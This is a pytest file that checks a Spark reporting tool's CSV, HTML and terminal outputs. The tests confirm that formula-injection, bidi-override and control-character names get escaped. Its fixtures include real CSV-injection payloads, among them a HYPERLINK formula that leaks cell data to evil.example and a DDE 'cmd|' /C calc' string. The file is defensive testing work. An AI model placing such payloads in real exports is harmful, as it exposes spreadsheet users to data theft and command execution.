"""Names in what reports write: CSV that no spreadsheet takes for formulas, and pages that show names as they are."""

from __future__ import annotations

import csv
import html
import json
import re
import unicodedata
from typing import TYPE_CHECKING

import pytest
import yaml

from analysis.files import write_csv
from analysis.runner import make
from config.load import load_bytes
from tests.support.spark_tools import DAY_MS, T0_MS, record, table, write

if TYPE_CHECKING:
    from pathlib import Path

    from pyspark.sql import SparkSession

FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"bill")': """'=HYPERLINK("http://evil.example/?"&A1,"bill")""",
    "=1+1": "'=1+1",
    "+1-1": "'+1-1",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    "\tplain": "'\tplain",
    "\rplain": "'\rplain",
    " =1+1": "' =1+1",
    "\u00a0=1+1": "'\u00a0=1+1",
    "\u200b\ufeff=1+1": "'\u200b\ufeff=1+1",
    "\uff1d1+1": "'\uff1d1+1",  # full width: some spreadsheets normalise them
    "\uff0b1": "'\uff0b1",
    "\uff0d1": "'\uff0d1",
    "\uff20x": "'\uff20x",
    "-": "'-",
    # Where a semicolon or a tab ends a cell, and quotes in the middle of a line mean nothing.
    "a;=1+1": "a;'=1+1",
    "a;b; @x": "a;b;' @x",
    "a\t-1": "a\t'-1",
    "a\n=1+1": "a\n'=1+1",
    "a\r\n=1+1": "a\r\n'=1+1",
}
PLAIN = (
    *("etl", "a=b", "a-b", "user@example.com", "C++", "1", "x-1", "'quoted'", '"quoted"', 'a"b', "a,b", "a;b"),
    *("a\nb", "a\r\nb", "a\rb", " padded ", "\\", "\\n", '\\"', "Ольга", "花子", "עדה", "🎣", ""),
)
BIDI = "abc\u202egnol\u2066x\u2069\u200f\u061c"
BIDI_SHOWN = r"abc\u202egnol\u2066x\u2069\u200f\u061c"
MB = 1_000_000


def test_texts_are_no_formulas_and_numbers_stay_numbers(spark: SparkSession, tmp_path: Path) -> None:
    names = [*FORMULAS, *PLAIN]
    rows = [json.dumps({"number": index, "name": name, "loss": -index - 0.5}) for index, name in enumerate(names)]
    (tmp_path / "in.json").write_text("\n".join(rows))
    schema = "number int, name string, loss double, nothing string"
    frame = spark.read.schema(schema).json(str(tmp_path / "in.json"))
    write_csv(frame, str(tmp_path / "out.csv"), ["number"])
    with (tmp_path / "out.csv").open(newline="") as file:
        found = list(csv.reader(file, strict=True))
    assert found[0] == ["number", "name", "loss", "nothing"]
    wanted = [*FORMULAS.values(), *PLAIN]
    assert [row[1] for row in found[1:]] == wanted
    assert [row[0] for row in found[1:]] == [str(index) for index in range(len(names))]
    assert [row[2] for row in found[1:]] == [f"{-index - 0.5}" for index in range(len(names))]
    assert {row[3] for row in found[1:]} == {""}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Records of users and client-ids with names that mean harm."""
    names = [*FORMULAS, *(name for name in PLAIN if name), BIDI, "\x1b[2J\x9b31m\x7f", "<b>&amp;"]
    rows = [
        record(
            number,
            0,
            user=name,
            client_id=name,
            produce_bytes=(len(names) - number) * MB,
            produce_limit=50 * MB,
            throttle_produce_seconds=5.0,
        )
        for number, name in enumerate(names, 1)
    ]
    return write(tmp_path / "in", rows)


def made(spark: SparkSession, name: str, source: Path, tmp_path: Path, **options: object) -> tuple[str, Path]:
    now_ms = T0_MS + 30 * DAY_MS
    told = make(spark, name, str(source), str(tmp_path / "out"), 60, options, quiet=True, now_ms=now_ms)
    return told, tmp_path / "out" / name


def test_csv_report_escapes_hostile_names(spark: SparkSession, tmp_path: Path, hostile: Path) -> None:
    _, out = made(spark, "usage", hostile, tmp_path)
    clients = table(out, "clients")
    by_user = {row["user"]: row for row in clients}
    assert len(by_user) == len(clients) == len(FORMULAS) + len(PLAIN) - 1 + 3
    for name, shown in FORMULAS.items():
        assert by_user[shown]["client_id"] == shown, name
        assert by_user[shown]["cluster_id"] == "east"
    for name in (*PLAIN[:-1], BIDI):
        assert by_user[name]["client_id"] == name
    assert {float(row["produce_bytes"]) for row in clients} == {number * MB for number in range(len(clients))}
    for path in out.glob("*.csv"):
        with path.open(newline="") as file:
            for row in csv.reader(file, strict=True):
                assert [cell for cell in row if re.match(r"\s*[=+@]", cell)] == [], path
    # The Parquet beside it has the names as they are, for programs.
    exact = {row["user"] for row in spark.read.parquet(str(out / "clients.parquet")).select("user").collect()}
    assert {*FORMULAS, *PLAIN[:-1], BIDI} <= exact


@pytest.mark.parametrize("name", ["usage", "throttling", "recommend"])
def test_pages_and_terminals_escape_bidi_and_hidden_text(spark: SparkSession, tmp_path: Path, name: str) -> None:
    rows = [
        record(day * 100 + number, day * 86_400 + number * 10, user=BIDI, client_id="\x1b[2J\x9b31m\u2028", requests=9)
        | {"produce_bytes": 9 * MB, "produce_limit": MB, "throttle_produce_seconds": 5.0, "throttle_produce_count": 9}
        for day in range(3)
        for number in range(1, 20)
    ]
    # `recommend` proposes an entry for this one, and none for a client-id that no file may name.
    rows += [row | {"client_id": "etl", "sequence": row["sequence"] + 1000} for row in rows]
    told, out = made(spark, name, write(tmp_path / "in", rows), tmp_path, headroom=0.25)
    page = (out / "report.html").read_text()
    for text in (told, page):
        harmful = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
        assert harmful <= {"\n"}, harmful
    assert BIDI_SHOWN in html.unescape(page)
    assert r"\x1b[2J\x9b31m\u2028" in html.unescape(page)
    plots = "".join(re.findall(r"<svg.*?</svg>", page, re.DOTALL))
    assert r"abc\u202egnol" in html.unescape(plots)
    if name == "recommend":
        values = (out / "values.yaml").read_text()
        assert values.isascii()
        assert {entry["user"] for entry in yaml.safe_load(values)["quotas"]} == {BIDI}
        config = load_bytes("values.yaml", b'upstream: {bootstrap: ["k:9092"]}\n' + values.encode())
        assert [(str(entry.user), entry.client_id) for entry in config.quotas] == [(BIDI, "etl")]
        assert r"\u202e" in (out / "quotas.diff").read_text()
